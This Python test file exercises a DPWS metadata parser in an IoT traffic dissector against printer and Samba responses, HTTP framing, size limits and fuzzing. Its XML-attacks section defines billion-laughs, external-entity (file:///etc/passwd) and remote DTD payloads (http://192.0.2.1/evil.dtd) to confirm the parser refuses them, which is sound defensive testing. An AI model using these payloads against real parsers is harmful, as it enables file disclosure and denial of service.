"""DPWS metadata (WS-Transfer GetResponse bodies): real stacks' answers read whole and through the HTTP
dissector (plain, chunked, split at every byte, until close), only after a SOAP POST, limits driven to their
bound, XML attacks and hostile input."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iotwarden.dissect.dpwsmeta import (
    MAX_METADATA,
    MAX_TEXT,
    MAX_TYPES,
    SOAP_POST,
    MetadataReader,
    is_soap_request,
    may_be_metadata,
    parse_metadata,
)
from iotwarden.dissect.http import HttpDissector
from iotwarden.errors import ParseError
from iotwarden.model import Observation
from tests.dissect.dpwsdocs import (
    HP_MFP,
    WSDAPI_SAMPLE,
    WSDD_SAMBA,
    get_response,
    metadata_get,
    metadata_reply,
)
from tests.dissect.hostile import feed_chunks, mutate

PRINT = "{http://schemas.microsoft.com/windows/2006/08/wdp/print}PrinterServiceType"
SCAN = "{http://schemas.microsoft.com/windows/2006/08/wdp/scan}ScannerServiceType"
PUB_COMPUTER = "{http://schemas.microsoft.com/windows/pub/2005/07}Computer"


def parsed(doc: bytes) -> dict[str, Any]:
    fields = parse_metadata(doc)
    assert fields is not None
    return fields


def metadata(chunks: list[tuple[bool, bytes]]) -> list[Observation]:
    return [o for o in feed_chunks(HttpDissector(), chunks) if o.kind == "dpws_metadata"]


def model_section(inner: bytes) -> bytes:
    return get_response(b"", b'<wsx:MetadataSection Dialect="http://schemas.xmlsoap.org/ws/2006/02/devprof/ThisModel">'
                        b"<wsdp:ThisModel>" + inner + b"</wsdp:ThisModel></wsx:MetadataSection>")


# ---- real stacks' answers ----

def test_a_multifunction_printer_states_maker_model_device_and_both_services() -> None:
    f = parsed(HP_MFP)
    assert (f["dpws_manufacturer"], f["dpws_model_name"], f["dpws_model_number"]) == (
        "HP", "HP LaserJet MFP M428fdw", "W1A30A")
    assert f["dpws_friendly_name"] == "HP LaserJet MFP M428fdw (7A3B21)"  # the first of its localized names
    assert (f["dpws_firmware_version"], f["dpws_serial_number"]) == ("002_2236A", "PHBLM12345")
    assert f["dpws_types"] == [PRINT, SCAN]  # prefixes resolved through the envelope's declarations
    assert f["dpws_presentation_url"] == "http://192.168.1.60/" and f["dpws_model_url"] is None
    assert f["dpws_computer"] is None and f["dpws_truncated"] is False


def test_wsdd_on_a_samba_host_publishes_the_computer() -> None:
    f = parsed(WSDD_SAMBA)
    assert f["dpws_computer"] == "FILESERVER/Workgroup:WORKGROUP"
    assert f["dpws_types"] == [PUB_COMPUTER]
    assert (f["dpws_manufacturer"], f["dpws_model_name"], f["dpws_friendly_name"]) == (
        "wsdd", "wsdd", "WSD Device fileserver")


def test_microsofts_sample_text_is_trimmed_and_host_and_hosted_types_kept() -> None:
    f = parsed(WSDAPI_SAMPLE)
    assert f["dpws_friendly_name"] == "WSDAPI Basic Interop Server" and f["dpws_manufacturer"] == "Microsoft"
    assert f["dpws_types"] == ["{http://schemas.example.org/SimpleService}SimpleDeviceType",
                               "{http://schemas.example.org/SimpleService}SimpleService"]


def test_oasis_dpws_1_1_namespace_and_an_undeclared_prefix() -> None:
    doc = (b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"'
           b' xmlns:mex="http://schemas.xmlsoap.org/ws/2004/09/mex"'
           b' xmlns:dpws="http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01"><s:Body><mex:Metadata>'
           b"<mex:MetadataSection><dpws:ThisModel><dpws:Manufacturer>Brother</dpws:Manufacturer>"
           b"<dpws:ModelName>MFC-L2750DW series</dpws:ModelName></dpws:ThisModel></mex:MetadataSection>"
           b"<mex:MetadataSection><dpws:Relationship><dpws:Hosted><dpws:Types>x:PrinterServiceType</dpws:Types>"
           b"</dpws:Hosted></dpws:Relationship></mex:MetadataSection></mex:Metadata></s:Body></s:Envelope>")
    f = parsed(doc)
    assert (f["dpws_manufacturer"], f["dpws_model_name"]) == ("Brother", "MFC-L2750DW series")
    assert f["dpws_types"] == ["x:PrinterServiceType"]


@pytest.mark.parametrize("doc", [
    b"",
    b"not xml at all",
    b"--uuid:0a1b\r\nContent-Type: application/xop+xml\r\n\r\n<soap:Envelope/>",  # an MTOM scan image
    b'<root xmlns="urn:schemas-upnp-org:device-1-0"><device/></root>',  # a UPnP description
    (b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
     b'<wprt:GetPrinterElementsResponse xmlns:wprt="http://schemas.microsoft.com/windows/2006/08/wdp/print">'
     b"<wsdp:ThisModel xmlns:wsdp=\"http://schemas.xmlsoap.org/ws/2006/02/devprof\"><wsdp:Manufacturer>X"
     b"</wsdp:Manufacturer></wsdp:ThisModel></wprt:GetPrinterElementsResponse></soap:Body></soap:Envelope>"),
    model_section(b"<wsdp:Manufacturer>   </wsdp:Manufacturer>"),  # metadata that states nothing
])
def test_bodies_that_are_no_metadata(doc: bytes) -> None:
    assert parse_metadata(doc) is None


def test_elements_outside_their_section_are_not_fields() -> None:
    doc = get_response(b"", b"<wsx:MetadataSection><wsdp:Manufacturer>Stray</wsdp:Manufacturer>"
                       b"<wsdp:ThisModel><other:X xmlns:other=\"urn:x\"><wsdp:ModelName>Deep</wsdp:ModelName>"
                       b"</other:X><wsdp:ModelName>Real</wsdp:ModelName></wsdp:ThisModel></wsx:MetadataSection>")
    f = parsed(doc)
    assert f["dpws_manufacturer"] is None and f["dpws_model_name"] == "Real"


def test_text_is_unescaped_whitespace_folded_and_cut() -> None:
    f = parsed(model_section(b"<wsdp:Manufacturer>Acme &amp; Co\n\t Ltd</wsdp:Manufacturer><wsdp:ModelName>"
                             + b"M" * (MAX_TEXT * 3) + b"</wsdp:ModelName>"))
    assert f["dpws_manufacturer"] == "Acme & Co Ltd" and f["dpws_model_name"] == "M" * MAX_TEXT


def test_types_are_bounded_and_deduplicated() -> None:
    names = b" ".join(b"t:T%d" % i for i in range(MAX_TYPES * 2))
    doc = get_response(b' xmlns:t="urn:t"', b"<wsx:MetadataSection><wsdp:Relationship><wsdp:Hosted><wsdp:Types>"
                       + names + b" t:T0</wsdp:Types></wsdp:Hosted></wsdp:Relationship></wsx:MetadataSection>")
    assert parsed(doc)["dpws_types"] == [f"{{urn:t}}T{i}" for i in range(MAX_TYPES)]


def test_nesting_past_the_depth_limit_is_skipped_not_followed() -> None:
    deep = b"<x:d xmlns:x=\"urn:x\">" * 40 + b"<wsdp:ModelName>Hidden</wsdp:ModelName>" + b"</x:d>" * 40
    f = parsed(model_section(deep + b"<wsdp:Manufacturer>Kept</wsdp:Manufacturer>"))
    assert f["dpws_manufacturer"] == "Kept" and f["dpws_model_name"] is None


def test_reading_stops_at_the_size_limit_keeping_what_came_before() -> None:
    doc = model_section(b"<wsdp:Manufacturer>Early</wsdp:Manufacturer>" + b"<x:p xmlns:x=\"urn:x\"/>" * 5000)
    assert len(doc) > MAX_METADATA
    reader = MetadataReader()
    over = False
    for i in range(0, len(doc), 1000):
        over = reader.feed(doc[i:i + 1000])
        if over:
            break
    assert over and reader.read == MAX_METADATA
    f = reader.result()
    assert f is not None and f["dpws_manufacturer"] == "Early" and f["dpws_truncated"] is True


def test_a_document_cut_short_keeps_its_complete_elements() -> None:
    cut = HP_MFP[: HP_MFP.index(b"<wsdp:FirmwareVersion>")]
    reader = MetadataReader()
    assert reader.feed(cut) is False
    f = reader.result()
    assert f is not None and f["dpws_model_name"] == "HP LaserJet MFP M428fdw" and f["dpws_truncated"] is True


# ---- XML attacks: refused before anything is expanded or fetched ----

_ENV = b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/></soap:Envelope>'
BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY a "aaaaaaaaaa">'
                  + b"".join(b'<!ENTITY %s "%s">' % (b"a" * (i + 1), (b"&" + b"a" * i + b";") * 10)
                             for i in range(1, 9))
                  + b"]>" + HP_MFP.split(b"?>", 1)[1].replace(b">HP<", b">&aaaaaaaaa;<"))
EXTERNAL_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                   + HP_MFP.split(b"?>", 1)[1].replace(b">HP<", b">&x;<"))
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">' + _ENV
PARAMETER_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>' + _ENV
ATTACKS = [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]


@pytest.mark.parametrize("doc", ATTACKS)
def test_dtds_are_refused_as_parse_errors(doc: bytes) -> None:
    with pytest.raises(ParseError):
        parse_metadata(doc)


@pytest.mark.parametrize("doc", ATTACKS)
def test_an_attack_served_over_http_states_nothing_and_raises_nothing(doc: bytes) -> None:
    obs = feed_chunks(HttpDissector(), [(True, metadata_get()), (False, metadata_reply(doc))])
    assert [o.kind for o in obs] == ["request", "response"]


def test_an_unknown_declared_encoding_is_refused() -> None:
    with pytest.raises(ParseError):
        parse_metadata(b'<?xml version="1.0" encoding="x-no-such"?>' + _ENV)


# ---- through the HTTP dissector ----

def test_the_answer_describes_the_server_never_the_client() -> None:
    request, response, meta = feed_chunks(HttpDissector(), [(True, metadata_get()), (False, metadata_reply(HP_MFP))])
    assert request.kind == "request" and request.fields["method"] == "POST"  # the request keeps its method
    assert response.kind == "response" and meta.kind == "dpws_metadata"
    assert meta.subject == "src" and meta.src_ip == "10.0.0.2" and meta.src_port == 80
    assert meta.fields == parsed(HP_MFP)


@pytest.mark.parametrize("chunk", [1, 7, 64, 4096])
def test_chunked_bodies(chunk: int) -> None:
    (o,) = metadata([(True, metadata_get()), (False, metadata_reply(WSDD_SAMBA, chunk=chunk))])
    assert o.fields == parsed(WSDD_SAMBA)


@pytest.mark.parametrize("framing", ["length", "chunked", "close"])
def test_split_at_every_byte(framing: str) -> None:
    reply = metadata_reply(HP_MFP, chunk=100 if framing == "chunked" else 0, framing=framing)
    (o,) = metadata([(True, metadata_get()), *((False, reply[i:i + 1]) for i in range(len(reply)))])
    assert o.fields == parsed(HP_MFP)


def test_pipelined_soap_exchanges_keep_framing_and_state_once_each() -> None:
    fault = (b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><soap:Fault/>'
             b"</soap:Body></soap:Envelope>")
    replies = metadata_reply(fault) + metadata_reply(HP_MFP, chunk=300) + metadata_reply(WSDD_SAMBA)
    obs = feed_chunks(HttpDissector(), [(True, metadata_get().replace(b"Connection: close", b"Connection: keep-alive")
                                         * 3), (False, replies)])
    assert [o.kind for o in obs] == ["request"] * 3 + ["response", "response", "dpws_metadata", "response",
                                                       "dpws_metadata"]


@pytest.mark.parametrize(("request_", "reply"), [
    (metadata_get(content_type=b"text/plain"), metadata_reply(HP_MFP)),  # the request was no SOAP
    (b"GET /9c6e2a40/ HTTP/1.1\r\nHost: x\r\n\r\n", metadata_reply(HP_MFP)),  # a GET is never a WS-Transfer Get
    (metadata_get(), metadata_reply(HP_MFP, content_type=b"text/html")),  # another media type
    (metadata_get(), metadata_reply(HP_MFP, content_type=None)),
    (metadata_get(), metadata_reply(HP_MFP).replace(b"200 OK", b"500 Internal Server Error")),
])
def test_bodies_that_are_not_read(request_: bytes, reply: bytes) -> None:
    assert metadata([(True, request_), (False, reply)]) == []


@pytest.mark.parametrize(("method", "content_type", "expect"), [
    ("POST", "application/soap+xml", True), ("POST", ' application/soap+xml; charset=utf-8; action="x"', True),
    ("POST", "APPLICATION/SOAP+XML", True), ("POST", "text/xml", False), ("POST", None, False),
    ("GET", "application/soap+xml", False),
])
def test_which_requests_are_soap(method: str, content_type: str | None, expect: bool) -> None:
    assert is_soap_request(method, content_type) is expect


@pytest.mark.parametrize(("status", "method", "content_type", "expect"), [
    (200, SOAP_POST, "application/soap+xml; charset=utf-8", True), (200, SOAP_POST, "text/xml", True),
    (200, SOAP_POST, "application/xml", True), (200, SOAP_POST, None, False), (200, SOAP_POST, "text/html", False),
    (202, SOAP_POST, "application/soap+xml", False), (200, "POST", "application/soap+xml", False),
    (200, None, "application/soap+xml", False), (200, "GET", "application/soap+xml", False),
])
def test_which_responses_may_be_metadata(status: int, method: str | None, content_type: str | None,
                                         expect: bool) -> None:
    assert may_be_metadata(status, method, content_type) is expect


def test_5357_is_an_http_port() -> None:
    assert 5357 in HttpDissector.tcp_ports


# ---- hostile input (STYLE 13) ----

@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_fuzz_random_bytes_keep_the_contract(data: bytes) -> None:
    try:
        result = parse_metadata(data)
    except ParseError:
        return
    assert result is None or isinstance(result["dpws_types"], list)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from([HP_MFP, WSDD_SAMBA, WSDAPI_SAMPLE]),
       st.lists(st.tuples(st.integers(0, 100_000), st.integers(0, 255)), max_size=8), st.integers(0, 6000),
       st.integers(0, 3))
def test_fuzz_mutated_documents_through_http(doc: bytes, edits: list[tuple[int, int]], cut: int, way: int) -> None:
    body = mutate(doc, edits, cut)
    reply = metadata_reply(body, chunk=(0, 33, 0, 0)[way], framing=("length", "chunked", "close", "length")[way])
    if way == 3:
        reply = mutate(reply, edits, len(reply))
    half = len(reply) // 2
    for o in feed_chunks(HttpDissector(), [(True, metadata_get()), (False, reply[:half]), (False, reply[half:])]):
        if o.kind == "dpws_metadata":
            assert o.subject == "src" and isinstance(o.fields["dpws_types"], list)
